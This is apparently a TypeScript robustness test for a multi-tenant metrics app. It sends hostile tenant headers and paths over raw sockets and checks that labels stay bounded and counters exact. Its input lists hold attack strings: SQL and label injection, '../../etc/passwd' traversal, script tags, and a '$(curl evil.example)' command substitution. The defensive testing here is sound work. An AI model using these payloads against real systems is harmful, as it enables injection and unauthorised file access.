/**
 * Hostile input against an app under the preload: a thousand hostile tenant headers and hostile paths over raw
 * sockets (bytes exactly as written, tabs and non-ASCII included), then thousands of distinct valid tenants past
 * the limit. No exception, every request answered, every label value valid or reserved, series bounded and
 * fold counters exact.
 */
import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { after, before, test } from 'node:test';
import { parseMetrics, scrape, startFixture, sumOf, type RunningFixture } from '../helpers/fixture';
import { freePort } from '../helpers/services';
import { TENANT_ID_PATTERN } from '../../src/core/tenant/TenantRegistry';

const MAX_TENANTS = 50;
const MAX_ENDPOINTS = 10;
const VALID_TENANTS = 3000;
const RESERVED = ['unknown', 'invalid', 'overflow'];

/** Sends one HTTP/1.1 request as raw bytes on its own connection; resolves with the status code. */
function rawRequest(port: number, path: Buffer | string, headers: Buffer[] = []): Promise<number> {
  return new Promise((resolve, reject) => {
    const sock = connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    sock.setTimeout(10_000, () => sock.destroy(new Error('raw request timed out')));
    sock.on('data', (d: Buffer) => chunks.push(d));
    sock.on('error', reject);
    sock.on('close', () => {
      const m = /^HTTP\/1\.1 (\d{3})/.exec(Buffer.concat(chunks).toString('latin1'));
      if (m) resolve(Number(m[1]));
      else reject(new Error(`no HTTP response: ${Buffer.concat(chunks).toString('latin1').slice(0, 100)}`));
    });
    const parts: Buffer[] = [Buffer.from('GET '), Buffer.from(path), Buffer.from(' HTTP/1.1\r\nHost: app\r\nConnection: close\r\n')];
    for (const h of headers) parts.push(h, Buffer.from('\r\n'));
    parts.push(Buffer.from('\r\n'));
    sock.end(Buffer.concat(parts));
  });
}

/** Runs `tasks` with at most `width` in flight. */
async function pool<T>(tasks: (() => Promise<T>)[], width: number): Promise<T[]> {
  const out: T[] = new Array(tasks.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < tasks.length) {
        const i = next++;
        out[i] = await tasks[i]();
      }
    })
  );
  return out;
}

/** A thousand tenant header values (as raw bytes), each invalid or spelled like a reserved value. */
function hostileTenantValues(): Buffer[] {
  const out: Buffer[] = [];
  for (let i = 0; out.length < 1000; i++) {
    const v: (string | Buffer)[] = [
      'x'.repeat(65 + ((i * 397) % 8000)), // huge (up to 8 KB)
      `' OR 1=1;-- ${i}`,
      `acme${i}"} or vector(1) #`,
      `{tenant_id="${i}"}`,
      `a\\"b${i}\\`,
      `${i}\tacme`, // tab inside the value
      Buffer.from(`t\u00ebnant-${i}`, 'utf8'),
      Buffer.from(`\u79df\u6237${i}`, 'utf8'),
      Buffer.from([0x61, 0x80 + (i % 0x7f), 0xff, 0x62]),
      RESERVED[i % 3],
      `../../etc/passwd${i}`,
      `-leading${i}`,
      `$(curl evil.example)${i}`,
      `<script>${i}</script>`,
      `%00${i}`,
      `a,b${i}`,
    ];
    const pick = v[i % v.length];
    out.push(Buffer.isBuffer(pick) ? pick : Buffer.from(pick, 'latin1'));
  }
  return out;
}

/** Hostile paths, sent without a tenant. */
function hostilePaths(): string[] {
  const out: string[] = [];
  for (let i = 0; i < 300; i++) {
    const v = [
      `/../../etc/passwd`,
      `/api/..%2f..%2fetc%2fpasswd`,
      `/api/${'a'.repeat(5000)}`,
      `/api/users/${i * 7919}`,
      `/api/users/${randomBytes(12).toString('hex')}`,
      `/api/chats/${randomUUID()}`,
      `/api/search?q=%3Cscript%3E${i}&tenant=evil`,
      `/api/%E2%82%AC${i}`,
      `/api/a/b/c/d/e/f/g/h/i/j/k/${i}`,
      `/wp-login.php?id=${i}`,
      `/${randomUUID()}`,
      `/api/w${String.fromCharCode(97 + (i % 26))}${String.fromCharCode(97 + ((i * 7) % 26))}x`, // distinct word endpoints
    ][i % 12];
    out.push(v);
  }
  return out;
}

let app: RunningFixture;
let metricsPort: number;
const statuses: number[] = [];
let hostileTenantCount = 0;
let hostilePathCount = 0;

before(async () => {
  metricsPort = await freePort();
  app = await startFixture('hostile-app.js', {
    env: {
      OTEL_SERVICE_NAME: 'hostile-app',
      OTEL_TRACES_EXPORTER: 'none',
      OTEL_METRICS_EXPORTER: 'prometheus',
      OTEL_EXPORTER_PROMETHEUS_HOST: '127.0.0.1',
      OTEL_EXPORTER_PROMETHEUS_PORT: String(metricsPort),
      OTEL_NODE_ENABLED_INSTRUMENTATIONS: 'http',
      TENANTSCOPE_MAX_TENANTS: String(MAX_TENANTS),
      TENANTSCOPE_MAX_ENDPOINTS: String(MAX_ENDPOINTS),
    },
  });
  const values = hostileTenantValues();
  hostileTenantCount = values.length;
  statuses.push(
    ...(await pool(
      values.map((v) => () => rawRequest(app.port, '/api/chat', [Buffer.concat([Buffer.from('x-tenant-id: '), v])])),
      16
    ))
  );
  const paths = hostilePaths();
  hostilePathCount = paths.length;
  statuses.push(...(await pool(paths.map((p) => () => rawRequest(app.port, p)), 16)));
  // Distinct valid tenants, far past the limit, sent in order so the first MAX_TENANTS are the admitted ones.
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  const get = (tenant: string): Promise<number> =>
    new Promise((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port: app.port, path: '/api/chat', agent, headers: { 'x-tenant-id': tenant } }, (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      });
      req.on('error', reject);
      req.end();
    });
  for (let i = 0; i < MAX_TENANTS; i++) statuses.push(await get(`t-${i}`));
  const rest: (() => Promise<number>)[] = [];
  for (let i = MAX_TENANTS; i < VALID_TENANTS; i++) rest.push(() => get(`t-${i}`));
  statuses.push(...(await pool(rest, 8)));
  agent.destroy();
});

after(async () => {
  await app?.stop();
});

test('every hostile value is one the registry must reject (the input is what it claims)', () => {
  for (const v of hostileTenantValues()) {
    const s = v.toString('latin1');
    assert.ok(!TENANT_ID_PATTERN.test(s) || RESERVED.includes(s), JSON.stringify(s));
  }
});

test('the app answered every request itself and did not crash', () => {
  assert.equal(statuses.length, hostileTenantCount + hostilePathCount + VALID_TENANTS);
  const bad = statuses.filter((s) => s !== 200 && s !== 404);
  assert.deepEqual(bad, []);
  // Every hostile tenant header reached the app's /api/ handler (none was refused by the HTTP parser).
  assert.equal(statuses.slice(0, hostileTenantCount).filter((s) => s === 200).length, hostileTenantCount);
  assert.equal(statuses.slice(hostileTenantCount + hostilePathCount).filter((s) => s === 200).length, VALID_TENANTS);
  assert.equal(app.proc.exitCode, null);
  assert.doesNotMatch(app.stderr(), /TypeError|RangeError|Uncaught|at .*\(/);
});

test('every tenant_id and endpoint label is valid or reserved, and series are bounded', async () => {
  const text = await scrape(metricsPort);
  const samples = parseMetrics(text);
  const tenants = new Set<string>();
  const endpoints = new Set<string>();
  for (const s of samples) {
    const t = s.labels.tenant_id;
    if (t !== undefined) {
      assert.ok(RESERVED.includes(t) || TENANT_ID_PATTERN.test(t), `bad tenant_id label ${JSON.stringify(t)} on ${s.name}`);
      if (s.name === 'http_requests_total') tenants.add(t);
    }
    const e = s.labels.endpoint;
    if (e !== undefined) {
      assert.ok(e === 'unmatched' || e === 'overflow' || /^\/[A-Za-z0-9._~:*\/-]*$/.test(e), `bad endpoint label ${JSON.stringify(e)}`);
      assert.ok(e.length <= 8 * 65 + 2, `endpoint label too long: ${e.length}`);
      endpoints.add(e);
    }
  }
  const expectedTenants = new Set([...Array.from({ length: MAX_TENANTS }, (_, i) => `t-${i}`), 'invalid', 'unknown', 'overflow']);
  assert.deepEqual([...tenants].sort(), [...expectedTenants].sort());
  assert.ok(endpoints.size <= MAX_ENDPOINTS + 2, `endpoints: ${[...endpoints].join(' ')}`);
  assert.ok(endpoints.has('unmatched') && endpoints.has('overflow'));
  // No raw hostile content anywhere in the exposition.
  assert.doesNotMatch(text, /etc%2fpasswd|<script>|vector\(1\)|OR 1=1|aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/);
});

test('request counts per reserved tenant and the fold counters are exact', async () => {
  const samples = parseMetrics(await scrape(metricsPort));
  const req = (match: Record<string, string>): number => sumOf(samples, 'http_requests_total', { service: 'hostile-app', ...match });
  assert.equal(req({}), hostileTenantCount + hostilePathCount + VALID_TENANTS);
  assert.equal(req({ tenant_id: 'invalid' }), hostileTenantCount);
  assert.equal(req({ tenant_id: 'unknown' }), hostilePathCount);
  assert.equal(req({ tenant_id: 'overflow' }), VALID_TENANTS - MAX_TENANTS);
  for (const i of [0, 1, MAX_TENANTS - 1]) assert.equal(req({ tenant_id: `t-${i}` }), 1);
  assert.equal(sumOf(samples, 'tenantscope_tenants_folded_total'), VALID_TENANTS - MAX_TENANTS);
  // Every request folded into endpoint "overflow" is counted, and no other.
  assert.equal(sumOf(samples, 'tenantscope_endpoints_folded_total'), req({ endpoint: 'overflow' }));
  assert.ok(req({ endpoint: 'overflow' }) > 0);
  // 404s without a route: /../../etc/passwd, /wp-login.php, /<uuid> — 3 of every 12 hostile paths.
  assert.equal(req({ endpoint: 'unmatched', status: '404' }), (hostilePathCount / 12) * 3);
  // The spanmetrics family folds the same way.
  const calls = (t: string): number =>
    sumOf(samples, 'traces_span_metrics_calls_total', { span_kind: 'SPAN_KIND_SERVER', tenant_id: t });
  assert.equal(calls('invalid'), hostileTenantCount);
  assert.equal(calls('overflow'), VALID_TENANTS - MAX_TENANTS);
});
